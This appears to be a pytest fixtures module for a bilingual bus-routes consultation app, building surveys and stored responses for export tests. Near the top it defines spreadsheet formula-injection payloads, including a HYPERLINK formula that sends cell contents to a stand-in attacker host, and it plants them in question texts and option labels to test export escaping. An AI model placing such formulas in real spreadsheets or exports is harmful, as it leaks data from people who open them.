"""A consultation with stored responses, for the export and theme tests (and the browser test).

No tests here: fixtures and builders only. Answers are written straight into the normalised
tables, as submitting a draft would, so each test says exactly what was answered.
"""

from __future__ import annotations

import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta

import pytest

from consult.build.questions import add_question, set_condition
from consult.build.services import create_consultation
from consult.extensions import db
from consult.models import Answer, Response

# What a spreadsheet would run as a formula, in answers, question texts and option labels.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
PAYLOADS = [HYPERLINK, "+1", "-2", "@SUM(A1:A9)", "\tTab first", "\rReturn first"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@dataclass
class Survey:
    id: int
    slug: str
    # question key -> id; option key -> id
    questions: dict[str, int]
    options: dict[str, int]
    responses: list[int] = field(default_factory=list)


def build_survey(slug: str = "bus-routes", anonymous: bool = True) -> Survey:
    """Five questions in English and Welsh, formula payloads in the words of the first two.

    1 bus (single choice), 2 days (multiple choice), 3 why_walk (long text, only asked when the
    answer to 1 is "Walk"), 4 trips (number), 5 town (short text, optional).
    """
    now = datetime(2027, 3, 1, 9, 0)
    consultation = create_consultation(
        slug, title={"en": "Bus routes", "cy": "Llwybrau bysiau"},
        summary={"en": "Tell us which buses you use.", "cy": "Dywedwch wrthym pa fysiau rydych yn eu defnyddio."},
        opens_at=now, closes_at=now + timedelta(days=60), other_languages=["cy"], anonymous=anonymous,
        status="published")
    bus = add_question(consultation, "single_choice", f"{HYPERLINK} Which bus do you use?",
                       options=["+1 The number one", "@SUM route", "Walk"])
    days = add_question(consultation, "multiple_choice", "-2 Which days do you travel?",
                        options=["Monday", "-2 Tuesday", "\tFriday"], none_option="None of these")
    why_walk = add_question(consultation, "long_text", "Why do you walk?")
    trips = add_question(consultation, "number", "How many trips do you make in a week?")
    town = add_question(consultation, "short_text", "Which town do you live in?", required=False)
    welsh = {
        bus.prompt: "=Pa fws ydych chi’n ei ddefnyddio?",
        days.prompt: "Pa ddiwrnodau ydych chi’n teithio?",
        why_walk.prompt: "Pam ydych chi’n cerdded?",
        trips.prompt: "Sawl taith ydych chi’n ei gwneud bob wythnos?",
        town.prompt: "Ym mha dref ydych chi’n byw?",
    }
    for block, words in welsh.items():
        block.set("cy", words)
    for option, words in zip(bus.options, ["+1 Rhif un", "@SUM llwybr", "Cerdded"]):
        option.label.set("cy", words)
    for option, words in zip(days.options, ["Dydd Llun", "-2 Dydd Mawrth", "\tDydd Gwener", "Dim un o’r rhain"]):
        option.label.set("cy", words)
    set_condition(why_walk, [bus.options[2]])
    db.session.flush()
    options = {"one": bus.options[0].id, "sum": bus.options[1].id, "walk": bus.options[2].id,
               "monday": days.options[0].id, "tuesday": days.options[1].id, "friday": days.options[2].id,
               "no_day": days.options[3].id}
    return Survey(consultation.id, slug,
                  {"bus": bus.id, "days": days.id, "why_walk": why_walk.id, "trips": trips.id, "town": town.id},
                  options)


_counter = iter(range(1, 10_000_000))
CHOICE_QUESTIONS = ("bus", "days")


def add_response(survey: Survey, answers: dict, *, submitted_at: datetime | None = None, channel: str = "online",
                 language: str = "en", register: str = "standard", entered_by_id: int | None = None,
                 helped_by: str | None = None, reference: str | None = None) -> Response:
    """``answers``: question key -> option key(s), text or number, as the response's answer rows.

    Answers to the choice questions ("bus", "days") are option keys ("walk", "monday").
    """
    submitted_at = submitted_at or datetime(2027, 3, 5, 10, 30)
    number = next(_counter)
    response = Response(
        consultation_id=survey.id, reference=reference or f"R{number:05d}-TST", idempotency_key=uuid.uuid4().hex,
        channel=channel, language=language, register=register, started_at=submitted_at - timedelta(minutes=5),
        submitted_at=submitted_at, entered_by_id=entered_by_id, helped_by=helped_by)
    db.session.add(response)
    db.session.flush()
    for key, value in answers.items():
        question_id = survey.questions[key]
        values = value if isinstance(value, list) else [value]
        for item in values:
            if key in CHOICE_QUESTIONS:
                row = Answer(option_id=survey.options[item])
            elif isinstance(item, int):
                row = Answer(number=item)
            else:
                row = Answer(text=item)
            row.response_id, row.question_id = response.id, question_id
            db.session.add(row)
    db.session.flush()
    survey.responses.append(response.id)
    return response


@pytest.fixture
def analyst(signed_in):
    return signed_in("analyst")
